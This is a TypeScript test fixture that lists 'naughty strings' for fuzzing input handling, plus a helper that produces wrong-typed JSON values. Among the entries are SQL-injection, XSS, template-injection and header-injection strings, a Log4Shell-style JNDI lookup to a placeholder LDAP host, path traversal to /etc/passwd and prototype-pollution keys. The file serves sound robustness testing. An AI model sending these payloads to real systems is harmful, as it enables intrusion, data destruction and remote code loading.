/** Strings that have broken other people's products. */
export const NAUGHTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\r\nX-Injected: yes',
  '\u202Eevil\u202C',
  '\uFEFF',
  '\uD800',
  'Ω≈ç√∫˜µ≤≥÷',
  '👩‍👩‍👧‍👦',
  'ﷺ'.repeat(50),
  "' OR 1=1 --",
  '"; DROP TABLE accounts; --',
  '<script>alert(1)</script>',
  '{{7*7}}#{7*7}<%= 7*7 %>',
  '$\u007Bjndi:ldap://198.51.100.1/a}',
  '../../etc/passwd',
  '%00%2e%2e%2f',
  '__proto__',
  'constructor',
  'ACCOUNT#acc_01ARZ3NDEKTSV4RRFFQ69G5FAV',
  'NaN',
  '1e999',
  'null',
  '-0',
  '９９９９９９',
  'x'.repeat(30_000),
];

/** Values of every JSON type but the given one's. */
export function wrongTypes(value: unknown): readonly unknown[] {
  return [null, true, 1.5, 'text', [], [value], {}].filter((wrong) => typeOf(wrong) !== typeOf(value));
}

const typeOf = (value: unknown) => (value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value);
